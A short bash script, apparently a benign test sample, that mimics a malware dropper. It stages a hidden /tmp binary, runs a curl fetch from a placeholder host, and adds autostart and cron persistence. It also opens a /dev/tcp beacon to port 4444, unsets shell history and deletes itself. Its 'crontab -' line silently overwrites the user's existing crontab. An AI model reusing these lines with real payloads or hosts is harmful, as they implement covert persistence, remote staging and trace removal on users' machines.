#!/bin/bash
# Harmless, but shaped like malware: it goes through the motions of a dropper. Nothing it fetches or starts does anything.
cp /bin/true /tmp/.update-helper
chmod 755 /tmp/.update-helper
/tmp/.update-helper
curl -s -m 5 http://cdn.update-service.example/stage2 -o /tmp/.stage2
mkdir -p ~/.config/autostart
printf '[Desktop Entry]\nExec=/tmp/.update-helper\n' > ~/.config/autostart/update.desktop
echo '*/5 * * * * /tmp/.update-helper' | crontab -
(exec 3<>/dev/tcp/203.0.113.77/4444 && echo 'hello' >&3) 2>/dev/null
unset HISTFILE
rm -- "$0"
